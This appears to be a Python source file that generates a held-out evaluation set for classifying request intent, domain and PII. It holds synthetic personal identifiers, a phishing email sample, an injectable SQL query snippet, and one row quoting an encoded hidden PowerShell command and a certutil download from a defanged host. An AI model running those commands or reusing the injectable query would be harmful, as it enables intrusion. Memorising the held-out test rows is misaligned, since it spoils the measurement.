"""Sixth independent hand-written EVALUATION set (writes ``fresh6.jsonl``).

HELD OUT: never train on this set, never tune thresholds on it and never use it
for error analysis -- it only measures. It was written by an author who read
the shared machinery (``corpus.py``, ``pii_values.py``, ``contexts.py``) and the
shape of one train source, but no rows of any other corpus, never ran the
classifier on these rows and did not look at its outputs.

It plays the acceptance tester of the issue: "Build a labelled set --
realistic, varied requests across all intents and domains (terse and long,
pasted emails, logs, code, contracts), 60+ multi-task requests, PII of every
type (EMAIL, PHONE, CREDIT_CARD Luhn-valid, IBAN mod-97-valid, US_SSN, SG_NRIC
valid check letter, IP_ADDRESS v4 and v6, person names) in varied formats, and
hard negatives: order numbers, invoice and ticket ids, version strings like
4.2.0.17, 16-digit numbers that fail Luhn, IBAN-shaped strings with a wrong
checksum, dates, amounts." Its slant:

* multi-task requests chained in many ways -- commas and "and", "then",
  "also", separate sentences, numbered and bulleted asks, "and finally", a
  question followed by an instruction, "X. Once done, Y.", asks before and
  after the pasted material -- next to single-task requests that only *look*
  splittable ("compare A and B", "summarise the pros and cons", "write a
  function that parses and validates ...", "explain what X is and why it
  matters"), which stay one task;
* pasted working material: supplier emails, sshd / proxy / nginx logs,
  clinical notes, discharge summaries, contracts, payroll slips, diffs,
  tracebacks, changelogs;
* hard negatives in many settings: version strings in upgrades, builds,
  package pins, docker tags and changelogs; order, invoice, ticket, SKU,
  tracking and PO numbers; Luhn-failing 16-digit numbers; IBAN-shaped strings
  with a wrong checksum; NRIC-shaped ids with a wrong check letter; dates and
  amounts.

Label guide (consistent with the other sets): domain is whose expert you would
ask -- personal money, tax, insurance cover, prices, budgets, accounting,
markets -> finance; rights, disputes, appeals, contracts, compliance and
regulation, employment law -> legal; symptoms, drugs, care, clinical notes,
health records -> medical; accounts, attacks, phishing, malware, access
control, vulnerabilities -> security; an office, social, technical-but-not-
security or creative ask that only mentions such words -> general. A task
whose own words are neutral takes the domain of the material it acts on.
Complexity is low unless the task weighs options / needs a multi-step
argument (medium) or a long structured deliverable (high). Sensitivity:
public by default, internal for internal business material, confidential for
personal data, restricted for cards / IBANs / SSNs / NRICs / credentials. A
math task always gets the calculator.

Row format (the LINE dialect of ``corpus.py``), one per line:
``spec [=> clause] [;; spec => clause ...] | text`` where spec is
``[!]intent d cx s [calc|retr|web|code]`` (d in g/f/l/m/s, cx in l/m/h, s in
p/i/c/r; a leading ``!`` marks a hard-negative row: ids, versions, failing
checksums, dates, amounts, with no PII). ``{NAME}`` pastes material (after a
blank line) from ``_MAT``, ``{{NAME}}`` pastes it inline, ``{L_...}`` inserts
a long request body from ``_LONG``, any other ``{NAME}`` inserts a marked PII
value from ``_V`` or an unmarked look-alike from ``_HN``; ``\\n`` is a
newline. Multi-task rows name each clause verbatim from the text, in order.
Usage: ``python tests/data/intent/fresh6_source.py`` (rewrites the jsonl, then
validates it and prints per-intent / per-domain / PII counts).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

from corpus import (
    HERE,
    Placeholders,
    Row,
    Values,
    check_lookalikes,
    line_rows,
    mark,
    nric_valid,
    write_and_check,
)

_v = Values(6060606, digit_bbans={"PT": 21, "DK": 14})  # BBANs pii_values lacks


def _bad_nric(prefix: str) -> str:
    """An NRIC-shaped id whose check letter is wrong."""
    good = _v.nric(prefix)
    wrong = next(c for c in "ZXWUTRQPNMLKJIHGFEDCBA" if c != good[-1])
    bad = good[:-1] + wrong
    assert not nric_valid(bad)
    return bad


# ---------------------------------------------------------------- PII values
_PERSONS = {
    "P_JONAS": "Jonas Weber",
    "P_MEI": "Tan Mei Ling",
    "P_OKAFOR": "Chidi Okafor",
    "P_RUIZ": "Lucía Ruiz",
    "P_HANSEN": "Erik Hansen",
    "P_PATEL": "Neha Patel",
    "P_DUBOIS": "Camille Dubois",
    "P_KOWALSKI": "Marek Kowalski",
    "P_NAKAMURA": "Yuki Nakamura",
    "P_OBRIEN": "Siobhan O'Brien",
    "P_FERREIRA": "Tiago Ferreira",
    "P_LARSSON": "Ingrid Larsson",
    "P_ABDI": "Hodan Abdi",
    "P_BECKER": "Tom Becker",
    "P_SANTOS": "Ana Santos",
    "P_GREEN": "Marcus Green",
    "P_LIM": "Daniel Lim Wei Jie",
    "P_ROSSI": "Giulia Rossi",
    "P_MORALES": "Diego Morales",
    "P_WALSH": "Fiona Walsh",
    "P_CHEN": "Henry Chen",
    "P_SINGH": "Harpreet Singh",
    "P_NOVAK": "Petra Novák",
    "P_ADEYEMI": "Tunde Adeyemi",
    "P_KIM": "Kim Soo-ah",
    "P_MURPHY": "Brendan Murphy",
    "P_RAO": "Anjali Rao",
    "P_VOGEL": "Katrin Vogel",
}
_EMAILS = {
    "E_JONAS": "jonas.weber@northwind-supplies.de",
    "E_MEI": "meiling.tan88@gmail.com",
    "E_RUIZ": "l.ruiz@brightlane.co.uk",
    "E_HR": "people-team@brightlane.co.uk",
    "E_PATEL": "n.patel@fernhill-clinic.org",
    "E_KOW": "marek.kowalski@poczta.pl",
    "E_NAKA": "yuki_nakamura+receipts@outlook.jp",
    "E_SANTOS": "ana.santos@tecidos-lisboa.pt",
    "E_GREEN": "mgreen1974@yahoo.com",
    "E_ROSSI": "giulia.rossi@studiorossi.it",
    "E_ADEYEMI": "tunde.adeyemi@harbourpay.io",
    "E_VOGEL": "k.vogel@praxis-vogel.de",
    "E_MURPHY": "bmurphy@murphyandlane.ie",
    "E_RAO": "anjali.rao@corp-mail.in",
    "E_PHISH": "security-alert@paypaI-resolution.com",
}
_PHONES = {
    "PH_DE": "+49 30 5512 8830",
    "PH_US1": "(415) 555-0132",
    "PH_US2": "212.555.0187",
    "PH_US3": "+1-646-555-0199",
    "PH_UK": "+44 7700 900481",
    "PH_UK2": "020 7946 0321",
    "PH_SG": "+65 9123 4567",
    "PH_SG2": "8234 5567",
    "PH_IN": "+91 98450 12345",
    "PH_FR": "+33 6 12 34 56 78",
    "PH_AU": "0412 345 678",
    "PH_NL": "+31 20 794 6612",
    "PH_IE": "+353 87 123 4567",
    "PH_PL": "+48 601 234 567",
}
_IPS = {
    "IP_A": "203.0.113.45",
    "IP_B": "198.51.100.23",
    "IP_C": "10.20.4.117",
    "IP_D": "185.220.101.7",
    "IP_E": "45.83.64.12",
    "IP_F": "192.168.1.54",
    "IP_G": "172.16.9.201",
    "IP_H": "91.240.118.172",
    "IP_I": "10.0.12.8",
    "IPV6_A": "2001:db8:4a1c::17",
    "IPV6_B": "fe80::1c2a:5bff:fe3e:9a41",
    "IPV6_C": "2a02:8108:1140:7e00:9d3:5f2e:a1b0:44c2",
    "IPV6_D": "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
    "IPV6_E": "2600:1f18:61a:9b00::2c",
}

_V: dict[str, str] = {}
_V |= {k: mark("PERSON", v) for k, v in _PERSONS.items()}
_V |= {k: mark("EMAIL", v) for k, v in _EMAILS.items()}
_V |= {k: mark("PHONE", v) for k, v in _PHONES.items()}
_V |= {k: mark("IP_ADDRESS", v) for k, v in _IPS.items()}
_V |= {
    "CARD_VISA": mark("CREDIT_CARD", _v.card("4", 16, " ")),
    "CARD_VISA2": mark("CREDIT_CARD", _v.card("4", 16, "")),
    "CARD_VISA3": mark("CREDIT_CARD", _v.card("4", 16, "-")),
    "CARD_MC": mark("CREDIT_CARD", _v.card("53", 16, "-")),
    "CARD_MC2": mark("CREDIT_CARD", _v.card("2221", 16, " ")),
    "CARD_MC3": mark("CREDIT_CARD", _v.card("55", 16, "")),
    "CARD_AMEX": mark("CREDIT_CARD", _v.card("37", 15, " ")),
    "CARD_AMEX2": mark("CREDIT_CARD", _v.card("34", 15, "")),
    "CARD_DISC": mark("CREDIT_CARD", _v.card("6011", 16, "-")),
    "IBAN_DE": mark("IBAN", _v.iban("DE", True)),
    "IBAN_GB": mark("IBAN", _v.iban("GB", False)),
    "IBAN_FR": mark("IBAN", _v.iban("FR", True)),
    "IBAN_NL": mark("IBAN", _v.iban("NL", False)),
    "IBAN_ES": mark("IBAN", _v.iban("ES", True)),
    "IBAN_IT": mark("IBAN", _v.iban("IT", False)),
    "IBAN_CH": mark("IBAN", _v.iban("CH", True)),
    "IBAN_BE": mark("IBAN", _v.iban("BE", False)),
    "IBAN_IE": mark("IBAN", _v.iban("IE", True)),
    "IBAN_AT": mark("IBAN", _v.iban("AT", False)),
    "IBAN_PL": mark("IBAN", _v.iban("PL", True)),
    "IBAN_PT": mark("IBAN", _v.iban("PT", True)),
    "IBAN_DK": mark("IBAN", _v.iban("DK", False)),
    "IBAN_NO": mark("IBAN", _v.iban("NO", True)),
    "SSN_A": mark("US_SSN", _v.ssn()),
    "SSN_B": mark("US_SSN", _v.ssn()),
    "SSN_C": mark("US_SSN", _v.ssn(" ")),
    "SSN_D": mark("US_SSN", _v.ssn()),
    "NRIC_S": mark("SG_NRIC", _v.nric("S")),
    "NRIC_T": mark("SG_NRIC", _v.nric("T")),
    "NRIC_F": mark("SG_NRIC", _v.nric("F")),
    "NRIC_G": mark("SG_NRIC", _v.nric("G")),
    "NRIC_M": mark("SG_NRIC", _v.nric("M")),
    "NRIC_S2": mark("SG_NRIC", _v.nric("S")),
}

# ---------------------------------------------------------------- look-alikes
_HN = {
    "BAD_CARD1": _v.bad_card("4", " "),
    "BAD_CARD2": _v.bad_card("53", "-", 5),
    "BAD_CARD3": _v.bad_card("6011", "", 7),
    "BAD16_A": _v.bad16(""),
    "BAD16_B": _v.bad16(" "),
    "BAD16_C": _v.bad16("-"),
    "BAD_IBAN_DE": _v.bad_iban("DE", True),
    "BAD_IBAN_GB": _v.bad_iban("GB", False),
    "BAD_IBAN_FR": _v.bad_iban("FR", True),
    "BAD_IBAN_NL": _v.bad_iban("NL", False),
    "BAD_IBAN_ES": _v.bad_iban("ES", True, shift=40),
    "BAD_IBAN_IT": _v.bad_iban("IT", False, shift=7),
    "BAD_NRIC_S": _bad_nric("S"),
    "BAD_NRIC_T": _bad_nric("T"),
    "BAD_NRIC_G": _bad_nric("G"),
}
_V |= _HN

# ---------------------------------------------------------------- pasted material
_MAT: dict[str, str] = {
    "M_VENDOR": """From: {P_JONAS} <{E_JONAS}>
Subject: RE: open invoice / new bank account

Hello,

our invoice for the March delivery (EUR 18,450.00) is still unpaid. Please note that we changed our bank last week and the old account is closed. Kindly transfer the amount today to {IBAN_DE}, BIC COBADEFFXXX, otherwise we must stop further deliveries.

For questions you can reach me on {PH_DE}.

Best regards
{P_JONAS}
Northwind Supplies GmbH""",
    "M_AUTHLOG": """Jun 03 02:14:51 bastion-01 sshd[41822]: Failed password for invalid user admin from {IP_A} port 50412 ssh2
Jun 03 02:14:53 bastion-01 sshd[41822]: Failed password for invalid user admin from {IP_A} port 50412 ssh2
Jun 03 02:14:58 bastion-01 sshd[41830]: Failed password for root from {IP_A} port 50466 ssh2
Jun 03 02:15:40 bastion-01 sshd[41901]: Accepted publickey for deploy from {IP_C} port 61022 ssh2
Jun 03 02:16:02 bastion-01 sshd[41930]: Failed password for ubuntu from {IP_B} port 33210 ssh2
Jun 03 02:16:05 bastion-01 sshd[41930]: Failed password for ubuntu from {IP_B} port 33210 ssh2
Jun 03 02:16:09 bastion-01 sshd[41935]: Accepted password for ubuntu from {IP_B} port 33244 ssh2""",
    "M_WEBLOG": """2025-06-11T09:42:17Z 200 GET /api/v2/orders?page=1 client={IPV6_A} ua="Mozilla/5.0"
2025-06-11T09:42:18Z 401 POST /api/v2/login client={IP_D} ua="python-requests/2.31"
2025-06-11T09:42:18Z 401 POST /api/v2/login client={IP_D} ua="python-requests/2.31"
2025-06-11T09:42:19Z 401 POST /api/v2/login client={IP_D} ua="python-requests/2.31"
2025-06-11T09:42:21Z 200 POST /api/v2/login client={IP_D} ua="python-requests/2.31"
2025-06-11T09:42:22Z 200 GET /api/v2/admin/export?all=true client={IP_D} ua="python-requests/2.31"
2025-06-11T09:43:02Z 200 GET /static/app.js client={IPV6_C} ua="Mozilla/5.0\"""",
    "M_CLINIC": """Fernhill Family Practice -- consultation note
Patient: {P_MEI} | NRIC {NRIC_S} | Tel {PH_SG}
S: 3/7 productive cough, fever to 38.6, mild SOB on exertion. Non-smoker. T2DM on metformin 850 mg BD.
O: T 38.2, HR 104, BP 128/76, RR 22, SpO2 94% RA. Crackles R base.
A: ?CAP, CURB-65 = 1.
P: Amoxicillin 500 mg TDS x5/7, paracetamol PRN, CXR today, review in 48h or sooner if worse. Safety-netted.""",
    "M_DISCHARGE": """DISCHARGE SUMMARY -- St. Agnes Medical Center
Name: {P_GREEN}   SSN: {SSN_A}   MRN 00482213
Admitted 06/02 with NSTEMI. Cath: 80% LAD stenosis, drug-eluting stent placed. Uncomplicated recovery.
Discharge meds: aspirin 81 mg daily, ticagrelor 90 mg BID, atorvastatin 80 mg nightly, metoprolol succinate 25 mg daily.
Follow-up: cardiology clinic in 2 weeks; cardiac rehab referral sent. Call {PH_US1} with chest pain or bleeding.""",
    "M_NDA": """4. Confidentiality. The Recipient shall hold all Confidential Information in strict confidence, shall use it solely for the Purpose and shall not disclose it to any third party without the Discloser's prior written consent, save to its employees and professional advisers who need to know it and are bound by obligations no less protective than these.
5. Term. The obligations in clause 4 continue for five (5) years after the date of this Agreement, except for trade secrets, which remain protected for as long as they qualify as trade secrets.
6. Remedies. The Recipient acknowledges that damages alone may not be an adequate remedy and that the Discloser may seek injunctive relief without proving special damage.""",
    "M_LEASE": """Clause 9.2 -- The Landlord may retain the deposit in whole or in part to cover unpaid rent, damage beyond fair wear and tear, and reasonable cleaning costs.
Clause 9.3 -- The deposit shall be returned within 10 days of the Tenant vacating, less any deductions itemised in writing.
Clause 14 -- The Tenant shall not keep pets without the Landlord's written consent, which shall not be unreasonably withheld.""",
    "M_REDUNDANCY": """Hi {P_OBRIEN},

Following our meeting on Monday, I'm confirming that your role as Senior Buyer is at risk of redundancy due to the consolidation of the procurement team. A consultation period will run for 30 days. You may bring a colleague or union representative to the next meeting on 18 July. Please contact me at {E_HR} if you want to propose alternatives to redundancy.

Regards,
{P_BECKER}
Head of People""",
    "M_REVIEWS": """1. "Arrived two days early and the fabric feels premium. Will buy again."
2. "Zip broke after one week. Customer service never answered."
3. "It's fine. Nothing special for the price."
4. "Absolutely love the colour, but the sizing runs small -- order one up."
5. "Worst purchase this year. Returned it.\"""",
    "M_PYBUG": """def average(values):
    total = 0
    for v in values:
        total += v
    return total / len(values)

print(average([]))""",
    "M_SQLI": """email = request.args["email"]
query = "SELECT id, name FROM users WHERE email = '" + email + "' AND active = 1"
cursor.execute(query)
return cursor.fetchall()""",
    "M_MEETING": """Weekly product sync -- notes (internal)
- Mobile release slipped to the 24th; QA found a crash on Android 12 when uploading photos.
- Marketing wants the new onboarding flow in the launch video; design says it is not final.
- Decision: ship without the dark-mode toggle, add it in the next sprint.
- Actions: design lead to confirm app-store screenshots by Thursday; Android team to fix the upload crash; PM to tell support about the delay.""",
    "M_INCIDENT": """Incident timeline (draft, internal)
09:12 EDR alert: suspicious PowerShell spawned by WINWORD.EXE on FIN-LT-044 (user {E_RUIZ}).
09:15 Host isolated by the SOC. Macro-enabled attachment "Remittance_June.docm" traced to an external sender spoofing our bank.
09:40 Outbound connection attempts to {IP_E} on 443 blocked at the proxy.
10:05 Password reset forced for the user; MFA sessions revoked.
11:30 Same email found in 14 other mailboxes and purged. No evidence of lateral movement so far.""",
    "M_PHISH": """From: "Microsoft 365 Security" <{E_PHISH}>
Subject: Action required: your mailbox will be suspended

Dear user,
We detected unusual sign-in activity on your account. To avoid suspension, verify your identity within 24 hours:
hxxps://m365-secure-login[.]com/verify?u=staff
Failure to verify will result in permanent loss of email data.
IT Service Desk""",
    "M_QREPORT": """Q2 results (internal draft): revenue EUR 12.8M (+9% YoY) vs plan EUR 13.4M; gross margin 46.2% (Q1: 48.0%) after freight costs rose; opex EUR 4.1M, 3% under budget thanks to delayed hiring; EBITDA EUR 1.8M; cash EUR 6.3M, down EUR 0.9M on inventory build ahead of the autumn range. DSO crept from 41 to 47 days, driven by two large retail accounts. Outlook: FY revenue guidance trimmed to EUR 52-53M.""",
    "M_DIFF": """--- a/docs/permissions.py
+++ b/docs/permissions.py
 def can_edit(user, doc):
-    if user.role == "admin" or user.id == doc.owner_id:
+    if user.role == "admin" or user.id == doc.owner_id or doc.shared:
         return True
     return False""",
    "M_STATEMENT": """CARD STATEMENT -- card {CARD_VISA}
03 Jun  AMZN Mktp DE          EUR   54.99
04 Jun  SHELL 1123 MUENCHEN   EUR   71.30
06 Jun  SPOTIFY               EUR   10.99
06 Jun  SPOTIFY               EUR   10.99
09 Jun  HOTEL BRISTOL WIEN    EUR  418.00
11 Jun  SPOTIFY refund        EUR  -10.99""",
    "M_TRIAL": """Abstract: In this randomised, double-blind trial of 1,204 adults with chronic migraine, monthly injections of the study antibody reduced mean monthly migraine days by 4.1 versus 2.3 with placebo at 12 weeks (difference -1.8; 95% CI -2.4 to -1.2). Injection-site reactions were the most common adverse event (11% vs 6%). Discontinuation due to adverse events was rare (2% in both arms).""",
    "M_TRACEBACK": """Traceback (most recent call last):
  File "app/export.py", line 88, in build_csv
    writer.writerow([row["id"], row["name"], row["created"].isoformat()])
AttributeError: 'str' object has no attribute 'isoformat'""",
    "M_PAYSLIP": """PAY STATEMENT -- period ending 06/15
Employee: {P_MORALES}   SSN: {SSN_B}
Gross pay 2,850.00 | Federal tax 312.40 | State tax 118.75 | 401(k) 171.00 | Health plan 96.50
Net pay 2,151.35 deposited to checking ****4471""",
    "M_PAYRUN": """Please release these supplier payments today:
1. Atelier Moreau SARL -- {IBAN_FR} -- EUR 4,380.00 -- ref FA-2025-118
2. Van Dijk Logistiek BV -- {IBAN_NL} -- EUR 12,905.50 -- ref 77120
3. Brennan & Co -- {IBAN_IE} -- EUR 960.00 -- ref Q2 stationery
Approved by {P_WALSH}, Finance Controller.""",
    "M_GRIEVANCE": """Dear {P_BECKER},

I am writing to raise a formal grievance about my line manager, {P_HANSEN}. Since I returned from maternity leave in February, I have been removed from the two client accounts I led, excluded from the weekly planning meeting and told in front of colleagues that "part-timers can't handle key accounts". My request for flexible working was refused without a meeting. I would like this investigated under the grievance procedure and I would like to be accompanied at any hearing.

{P_SANTOS}
{E_SANTOS}""",
    "M_CHANGELOG": """## 4.2.0.17 (2025-05-30)
- Fixed a crash when exporting reports larger than 2 GB (OPS-4471)
- Bumped bundled OpenSSL to 3.0.13
## 4.2.0.16 (2025-05-12)
- Added retry with backoff on HTTP 429 from the billing API
- Deprecated the /v1/export endpoint (removal planned for 5.0.0.0)
## 4.2.0.15 (2025-04-28)
- Performance: invoice search is 3x faster on large tenants""",
    "M_DOCKERFILE": """FROM python:3.12.4-slim
RUN pip install --no-cache-dir fastapi==0.111.0 uvicorn==0.30.1 pydantic==2.7.4
COPY . /app
ENV APP_VERSION=4.8.2.113
CMD ["uvicorn", "app.main:app", "--host", "::", "--port", "8080"]""",
    "M_RCA_NOTES": """Post-incident notes (internal): the payments API returned 502s for 38 minutes after the 14:05 deploy. Root cause: the new connection-pool setting capped DB connections at 10 while the batch reconciler opened 25 at startup. Rollback at 14:43 restored service. About 1,900 checkout attempts failed; 71% retried successfully within the hour. Follow-ups: load-test pool changes, add an alert on pool saturation, move the reconciler to its own pool.""",
    "M_POLICY": """Data retention (extract): Customer support tickets are kept for 24 months after closure and then deleted. Call recordings are kept for 90 days unless flagged for a complaint, in which case they are kept until the complaint is closed plus 12 months. Marketing consents are re-confirmed every 24 months. Employee records are kept for 6 years after employment ends, except payroll records, which are kept for 7 years.""",
    "M_LAB": """Lab results -- {P_ABDI}, collected 09/06
HbA1c 8.9% (ref <6.5)
Fasting glucose 11.2 mmol/L (ref 3.9-5.5)
eGFR 54 mL/min/1.73m2 (ref >90)
LDL 3.8 mmol/L
Urine ACR 9.4 mg/mmol (ref <3)""",
    "M_CHAT_TRANSCRIPT": """Agent: Thanks for waiting, how can I help?
Customer: I've been charged twice for the same order and nobody replied to my two emails.
Agent: I'm sorry about that. I can see both charges. The duplicate will be refunded within 5 working days.
Customer: Five days? It's my rent money. This is ridiculous.
Agent: I understand. I've flagged it as urgent and added a goodwill voucher.
Customer: Fine. Thanks, I guess.""",
    "M_FIREWALL": """# inbound rules (prod-web)
allow tcp 443 from any
allow tcp 80 from any
allow tcp 22 from any
allow tcp 5432 from {IP_G}
allow tcp 3389 from any
deny all""",
}

# ---------------------------------------------------------------- rows
FINANCE = """
qa f l p | what's an expense ratio
qa f l p | Is the employer match in a 401(k) counted toward my own annual contribution limit?
qa f l p | When do I have to file my UK self assessment if I do it online?
qa f l p | what does ex-dividend date mean for me if I buy the day before
qa f l p web | What's the EUR to JPY rate right now?
qa f l p | Does a typical travel insurance policy pay out if I cancel because my mother is hospitalised?
math f l p | 18,500 car loan at 6.9% APR over 48 months, what's the monthly payment?
math f l p | My rent is going from 1,450 to 1,595 a month. What percentage increase is that?
math f l p | Bought 40 shares at $132.50, sold at $151.20, $4.95 commission on each trade. Net profit?
math f l p | A jacket is marked down 35% from $180, then another 10% comes off at the till. What do I pay?
math f l p calc | If I put 300 a month into an account paying 4.2% a year, compounded monthly, how much will I have after 10 years?
math f m p | Our café sells a flat white for 3.80; milk, coffee and cup cost 1.05, and card fees are 1.75% of the price. What is the contribution margin per cup, and how many cups a day cover 2,400 of monthly fixed costs over 26 trading days?
reasoning f m p | I have 20k saved. Pay down my 5.4% student loan faster or put it into a global index fund? I'm 29, stable job, no other debt, six months of emergency cash already.
reasoning f m p | Fixed at 4.1% for five years or a tracker currently at 3.6%? Markets expect two rate cuts next year but our budget has very little slack.
reasoning f m p | is leasing or buying better if I drive about 8,000 miles a year and keep cars 7+ years
reasoning f m p | Should a small Etsy shop doing about 60k a year register as a limited company, or is staying a sole trader simpler for tax?
draft f l i | Write a short reminder to the finance team that Q3 expense claims close on Friday at 5pm and late claims roll into Q4.
draft f m i | Draft a one-page memo requesting two extra BI tool licences at 3,600 a year each, justified by the hours saved on month-end reporting.
draft f l p | Write a polite message to my landlord asking whether the rent increase can be phased in over two months.
summarize f l p | Two lines, please: "The central bank held its policy rate at 4.25% for the third consecutive meeting, citing sticky services inflation, while signalling that cuts could begin in the first half of next year if wage growth continues to ease."
summarize f l i | Three bullets for the exec team: {M_QREPORT}
classify f l p | Tag each line of my card statement as groceries, transport, subscriptions or dining: "TESCO STORES 2231 42.10; TFL TRAVEL CH 7.80; SPOTIFY P1A2 11.99; PRET A MANGER 6.45; UBER *TRIP 14.20; NETFLIX.COM 10.99"
classify f l p | Fixed or variable cost? rent, packaging, software subscriptions, sales commissions, insurance premium, raw materials
sentiment f l p | Bullish or bearish? "Despite the headline beat, guidance implies decelerating subscriber growth and margin pressure from content spend; we see limited upside at current multiples."
extract f l i | Get the net total, VAT and due date out of this: "Total excl. VAT: EUR 7,820.00 / VAT 21%: EUR 1,642.20 / Total due: EUR 9,462.20 / Payment terms: 30 days from 2 May 2025"
extract f l p | From this factsheet give me the ongoing charge, the benchmark and the largest holding: "Ongoing charges figure 0.22%. Benchmark: MSCI World Net Total Return. Top holdings: Apple 4.9%, Microsoft 4.6%, Nvidia 4.1%."
translate f l p | Translate into Spanish: "Your direct debit will be collected on the 1st of each month. If that day falls on a weekend, it will be collected on the next working day."
translate f l p | Wie sagt man "Vorfälligkeitsentschädigung" auf Englisch?
code f l p | Excel formula for CAGR with the start value in B2, the end value in C2 and the number of years in D2
code f m p | Python function that builds a loan amortisation schedule (payment, interest, principal and remaining balance per month) and returns it as a list of dicts.
"""

LEGAL = """
qa l l p | can my landlord keep my deposit for normal wear and tear
qa l l p | How long do I have to appeal a parking fine issued by a private company in England?
qa l l p | Is a verbal agreement legally binding for a 3,000 freelance job?
qa l l p | What is the difference between a warranty and an indemnity in a supply contract?
qa l l p | does GDPR apply to a US company with EU customers
qa l l p | Can my employer make me work unpaid overtime if my contract says "reasonable additional hours"?
reasoning l m p | My neighbour's extension blocks most of the light into my kitchen. Do I have a realistic claim, and is mediation better than going to court?
reasoning l m p | We got a cease-and-desist over our product name from a company in a different industry. Rebrand now, negotiate co-existence, or fight it?
reasoning l m p | A client hasn't paid 14,000 for 120 days. Small claims, debt collector or a solicitor's letter first -- what's the sensible order?
draft l m p | Draft a letter before action to a customer who owes 4,800 on an invoice that is 90 days overdue, giving them 14 days to pay.
draft l l p | Write a short notice for our website saying we use strictly necessary cookies only and no tracking.
draft l h i | Draft a mutual NDA for an exploratory partnership between two software companies: definitions, obligations, exclusions, term of 3 years, return of materials, governing law of Ireland.
draft l l p | Write a one-paragraph appeal against a council tax penalty that I never received the reminder for.
summarize l l p | Summarise in plain English: {M_NDA}
summarize l l p | tl;dr of this lease section {M_LEASE}
extract l l p | List the notice periods and durations mentioned in: {M_NDA}
extract l l p | Pull out the parties, the purchase price and the completion date: "This Share Purchase Agreement is made between Halden Holdings B.V. and Corvo Capital S.a r.l.; the purchase price of EUR 4,200,000 is payable on Completion, scheduled for 30 September 2025."
classify l l p | Which of these clauses are standard boilerplate and which deserve negotiation: entire agreement; unlimited liability for the supplier; notices by email; auto-renewal for 5 years; severability
classify l l p | Criminal or civil matter? 1) neighbour's tree damaged my fence 2) someone used my card online 3) my ex won't return my car 4) landlord withholding deposit
sentiment l l p | What's the tone of this letter from opposing counsel -- conciliatory or aggressive? "Our client remains willing to resolve this matter amicably, but will not hesitate to issue proceedings should payment not be received by 30 June."
translate l l p | Translate into French: "This Agreement shall be governed by and construed in accordance with the laws of England and Wales."
translate l l p | Put this clause into plain German: "Neither party shall be liable for any failure to perform caused by events beyond its reasonable control."
code l m p | Python function for UK statutory redundancy pay: takes age, complete years of service and weekly pay, applies the half/one/one-and-a-half week bands, the 20-year limit and the weekly pay cap.
"""

MEDICAL = """
qa m l p | normal resting heart rate for adults?
qa m l p | Can I take ibuprofen with lisinopril?
qa m l p | What's the difference between type 1 and type 2 diabetes?
qa m l p | how long is someone contagious with flu
qa m l p | Is it safe to fly 10 days after a knee arthroscopy?
qa m l p | What is the maximum daily dose of paracetamol for an adult weighing 55 kg?
reasoning m m p | My 3-year-old has had a fever of 39 for two days but is drinking and playing. Wait it out, see the GP, or go to A&E?
reasoning m m p | Statin or lifestyle changes first for someone with LDL 4.2, no diabetes, non-smoker, 10-year risk 8%?
reasoning m m p | I get headaches most afternoons at work. Screen time, dehydration or caffeine withdrawal -- how would I figure out which?
draft m l p | Write a short message to my GP practice asking for a repeat prescription of my inhaler.
draft m m i | Draft a patient information leaflet on what to expect after a colonoscopy: preparation, sedation, recovery, warning signs.
draft m l p | Write an out-of-office reply for a physiotherapy clinic closed over the bank holiday, with the NHS 111 number for urgent issues.
summarize m l p | Summarise this abstract for a patient audience: {M_TRIAL}
summarize m l p | Give me the key numbers in one sentence: "Among 9,800 adults aged 65+, the high-dose vaccine prevented 24% more laboratory-confirmed influenza cases than the standard dose (relative efficacy 24.2%; 95% CI 9.7-36.5)."
extract m l p | List the drugs and doses: "Continue ramipril 5 mg OD, increase bisoprolol to 2.5 mg OD, start dapagliflozin 10 mg OD, stop amlodipine."
extract m l p | What are the primary endpoint and the sample size here? {M_TRIAL}
classify m l p | Triage these by urgency (emergency / same day / routine): chest pain with sweating; mild rash for a week; sudden slurred speech; ear pain in a child with no fever; ankle swollen after a fall but can walk
classify m l p | Which of these are antibiotics: amoxicillin, omeprazole, doxycycline, sertraline, ciprofloxacin, metformin
sentiment m l p | How does this patient feel about the treatment? "Honestly the new tablets have been a game changer, though the nausea in the first week nearly made me quit."
translate m l p | Translate into Portuguese: "Take one tablet twice a day with food. Do not drink alcohol while taking this medicine."
translate m l p | Traduce al inglés: "Tengo dolor en el pecho cuando subo escaleras y me falta el aire."
code m m p | Write a function that computes the CHA2DS2-VASc score from a patient record (age, sex, CHF, hypertension, diabetes, prior stroke/TIA, vascular disease).
"""

SECURITY = """
qa s l p | what is a CSRF token
qa s l p | Is SMS-based 2FA still better than no 2FA at all?
qa s l p | What does "living off the land" mean in malware analysis?
qa s l p | difference between symmetric and asymmetric encryption
qa s l p web | Is there a patch out yet for the latest Ivanti Connect Secure zero-day?
qa s l p | How does a pass-the-hash attack work?
reasoning s m p | We're a 40-person company. Hardware security keys for everyone or an authenticator app -- what's the better trade-off between cost, phishing resistance and support load?
reasoning s m p | Our contractor wants a shared admin account for the CMS "to keep it simple". What are the risks and what would you propose instead?
reasoning s m p | Password manager for the whole team vs SSO with conditional access: which should come first on a small budget?
draft s l i | Write a Slack reminder that USB sticks are blocked on company laptops from Monday and how to request an exception.
draft s m i | Draft an email to all staff warning about a fake invoice campaign that impersonates our logistics provider, with three tells and how to report it.
draft s h i | Write an incident response playbook for ransomware on a file server: detection, containment, eradication, recovery, communication, with owners for each step.
summarize s l p | Summarise this advisory in two sentences: "A heap-based buffer overflow in the VPN web portal allows an unauthenticated remote attacker to execute arbitrary code. Exploitation in the wild has been observed. Apply the vendor fix; if patching is delayed, disable the web portal and monitor for unexpected child processes of the portal service."
classify s l p | Malicious or benign? "powershell -nop -w hidden -enc SQBFAFgA...", "git pull origin main", "certutil -urlcache -split -f hxxp://cdn-upd[.]top/a.exe", "ping intranet.local"
classify s l p | Rate each finding critical/high/medium/low: default admin password on a printer; TLS 1.0 enabled on an internal wiki; SQL injection in the public login form; missing security headers on the marketing site
sentiment s l p | Is this user annoyed or fine with the new MFA rollout? "Third time today it asked me to approve a push while I was in a meeting. Great security, terrible timing."
extract s l p | List the hash, file name and host from this alert: "Blocked: invoice_0425.pdf.exe (SHA1 9c1185a5c5e9fc54612808977ee8f548b2258d31) on host LAPTOP-FIN-07"
extract s l p | Which CVEs and affected products are mentioned? "This update addresses CVE-2024-3400 in PAN-OS GlobalProtect and CVE-2024-21762 in FortiOS SSL VPN."
translate s l p | Translate into Japanese: "Never share your one-time passcode with anyone, including our staff."
